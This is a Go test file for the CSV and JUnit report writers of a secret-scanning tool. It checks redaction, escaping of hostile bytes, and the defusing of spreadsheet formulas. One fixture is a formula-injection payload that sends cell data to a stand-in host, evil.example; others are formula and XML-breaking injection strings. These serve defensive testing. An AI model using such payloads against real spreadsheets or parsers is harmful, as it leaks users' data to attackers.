package report

import (
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"strings"
	"testing"

	"github.com/leakhound/leakhound/detect"
)

func TestCSVParsesBack(t *testing.T) {
	fs := fixture()
	rows, err := csv.NewReader(bytes.NewReader(render(t, CSV{}, fs, Options{}))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(fs)+1 || strings.Join(rows[0], ",") != strings.Join(csvHeader, ",") {
		t.Fatalf("%d rows, header %v", len(rows), rows[0])
	}
	for i, f := range fs {
		row := rows[i+1]
		if row[0] != f.RuleID || row[2] != f.Path || row[7] != f.Secret || row[10] != f.Fingerprint || row[13] != f.Confidence.String() || row[14] != f.Commit {
			t.Errorf("row %d = %q", i+1, row)
		}
	}
	// --redact hides the secret in its column and inside the match.
	rows, _ = csv.NewReader(bytes.NewReader(render(t, CSV{}, fs, Options{Redact: 100}))).ReadAll()
	for i, f := range fs {
		if f.Secret != "" && (strings.Contains(strings.Join(rows[i+1], ","), f.Secret) || rows[i+1][7] != "REDACTED") {
			t.Errorf("redacted row %d = %q", i+1, rows[i+1])
		}
	}
}

// TestCSVDefusesFormulas: text from a scanned file that a spreadsheet would
// evaluate is quoted out.
func TestCSVDefusesFormulas(t *testing.T) {
	f := fixture()[0]
	f.Match = `=HYPERLINK("http://evil.example/?"&A1,"x")`
	f.Path = "+cmd.csv"
	f.Message = "@SUM(1)"
	rows, err := csv.NewReader(bytes.NewReader(render(t, CSV{}, []detect.Finding{f}, Options{}))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("cell %q would run as a formula", cell)
		}
	}
	if rows[1][8] != "'"+f.Match || rows[1][2] != "'+cmd.csv" {
		t.Errorf("row = %q", rows[1])
	}
}

type junitSuites struct {
	Suites []struct {
		Tests    int `xml:"tests,attr"`
		Failures int `xml:"failures,attr"`
		Cases    []struct {
			Class   string `xml:"classname,attr"`
			Name    string `xml:"name,attr"`
			Failure *struct {
				Message string `xml:"message,attr"`
				Type    string `xml:"type,attr"`
				Body    string `xml:",chardata"`
			} `xml:"failure"`
		} `xml:"testcase"`
	} `xml:"testsuite"`
}

func parseJUnit(t *testing.T, b []byte) junitSuites {
	t.Helper()
	var s junitSuites
	if err := xml.Unmarshal(b, &s); err != nil {
		t.Fatalf("%v:\n%s", err, b)
	}
	if len(s.Suites) != 1 {
		t.Fatalf("%d suites", len(s.Suites))
	}
	return s
}

func TestJUnitOneFailurePerFinding(t *testing.T) {
	fs := fixture()
	out := render(t, JUnit{}, fs, Options{})
	s := parseJUnit(t, out)
	suite := s.Suites[0]
	if suite.Tests != len(fs) || suite.Failures != len(fs) || len(suite.Cases) != len(fs) {
		t.Fatalf("tests %d failures %d cases %d", suite.Tests, suite.Failures, len(suite.Cases))
	}
	for i, f := range fs {
		c := suite.Cases[i]
		if c.Class != f.Path || c.Failure == nil || c.Failure.Type != f.RuleID || !strings.Contains(c.Failure.Body, f.Fingerprint) {
			t.Errorf("case %d = %+v", i, c)
		}
		// Test results land in CI views and logs: never the whole secret.
		if f.Secret != "" && bytes.Contains(out, []byte(f.Secret)) {
			t.Errorf("JUnit output holds the secret of %s", f.RuleID)
		}
	}

	empty := parseJUnit(t, render(t, JUnit{}, nil, Options{}))
	if c := empty.Suites[0].Cases; len(c) != 1 || c[0].Failure != nil || empty.Suites[0].Failures != 0 {
		t.Errorf("no findings: %+v", empty)
	}
}

// TestJUnitHostileText: paths and messages from a scanned repository may
// hold any bytes; the XML must still parse.
func TestJUnitHostileText(t *testing.T) {
	f := fixture()[1]
	f.Path = "a\x00b\x1b[31m\xff\xfe<&>\"'.txt"
	f.Message = "]]></failure><x>\r\n\t\uFFFE"
	f.Author = "\x07bell"
	s := parseJUnit(t, render(t, JUnit{}, []detect.Finding{f}, Options{}))
	c := s.Suites[0].Cases[0]
	if !strings.Contains(c.Class, "<&>\"'.txt") || c.Failure == nil || !strings.Contains(c.Failure.Body, "]]></failure><x>") {
		t.Errorf("case = %+v", c)
	}
}
